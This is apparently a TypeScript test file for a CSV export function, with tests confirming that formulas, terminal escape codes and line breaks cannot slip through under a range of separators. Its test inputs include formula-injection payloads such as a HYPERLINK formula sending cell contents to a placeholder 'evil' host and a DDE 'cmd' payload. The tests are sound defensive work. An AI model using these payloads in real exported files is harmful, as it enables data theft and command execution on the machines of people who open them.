import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvLine } from '../../src/export/csv.ts';

describe('a line of CSV', () => {
  test('has numbers, moments and nothing as they are, and quotes only what needs it', () => {
    const line = csvLine(['plain', -1.5, true, new Date('2026-08-01T00:00:00Z'), null, undefined, 'a, "b"', ' c']);
    expect(line).toBe('plain,-1.5,true,2026-08-01T00:00:00.000Z,,,"a, ""b"""," c"\n');
  });

  test('stays one line, whatever line breaks a text has', () => {
    expect(csvLine(['a\r\nb\u2028c', 'd\n\ne'])).toBe('a b c,d e\n');
  });

  test('has nothing in it that a terminal would obey', () => {
    expect(csvLine(['a\u001b[2Jb', '\u009b31m\u0000', 'c\u0007\td'])).toBe(
      'a\ufffd[2Jb,\ufffd31m\ufffd,"c\ufffd\td"\n',
    );
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    ' =1',
    '\t=1',
    '\n@x',
    '\r=1',
    '\uFF1D1',
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "=cmd|'/c calc'!A0",
  ])('makes no formula of %j', (text) => {
    const [cell] = readCsv(csvLine([text, 'next']));
    expect(cell).toMatch(/^'/);
  });

  // A reader that separates by something else than the comma, with its own idea of quotation marks or none.
  test.each([
    'a;=1+1',
    'a\t=1+1',
    'a|=1+1',
    'a; \t"@SUM(A1)"',
    'a;"=1+1";b',
    '";=1;-1;+1',
    'a;\n=1',
    'a;\uFF1D1',
    ';;=1',
  ])('makes no formula of what a reader with another separator takes for a cell: %j', (text) => {
    const line = csvLine(['first', text, 'last']);
    for (const separator of [';', '\t', '|']) {
      for (const cell of line.split(separator)) expect([separator, cell]).toEqual([separator, harmless]);
    }
  });

  test('makes none of any text, whatever the separator', () => {
    const signs = fc.constantFrom('=', '+', '-', '@', ';', '\t', '|', '"', ' ', ',', '\n', 'a');
    fc.assert(
      fc.property(fc.array(fc.string({ unit: signs }), { minLength: 1 }), (texts) => {
        for (const separator of [';', '\t', '|']) {
          for (const cell of csvLine(texts).split(separator).slice(1)) expect(cell).toEqual(harmless);
        }
      }),
    );
  });

  test('leaves alone what only has such a sign in it', () => {
    const texts = ['a=b', '1-2', 'x@y', "'quoted'", 'a; b', 'one|two', '; a=b', 'a, -b'];
    expect(readCsv(csvLine(texts))).toEqual(texts);
  });

  test('is read back as it was written, but for line breaks and formulas', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1 }), (texts) => {
        const cells = readCsv(csvLine(texts));
        expect(cells).toHaveLength(texts.length);
        cells.forEach((cell, n) => {
          const plain = texts[n]!.replace(/[\r\n\u2028\u2029]+/g, ' ');
          // Apostrophes are all that is added.
          expect(cell?.replaceAll("'", '')).toBe(plain.replaceAll("'", ''));
          expect(cell).not.toMatch(/^\s*[=+\-@]/);
        });
      }),
    );
  });
});

/** A cell that no spreadsheet takes for a formula, also where it drops white space and quotation marks before it looks. */
const harmless = expect.not.stringMatching(/^[\s"]*[=+\-@\uFF1D]/) as string;

/** As RFC 4180 says: what a reader that knows nothing of us makes of a line. */
function readCsv(line: string): string[] {
  expect(line).toMatch(/^[^\n]*\n$/);
  const cells = [...line.slice(0, -1).matchAll(/("(?:[^"]|"")*"|[^,"]*)(,|$)/g)];
  // The end of the line matches once more, as an empty cell after the last.
  const read = cells.map(([, cell = '']) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
  const last = cells.findIndex(([, , end]) => end === '');
  return read.slice(0, last + 1);
}
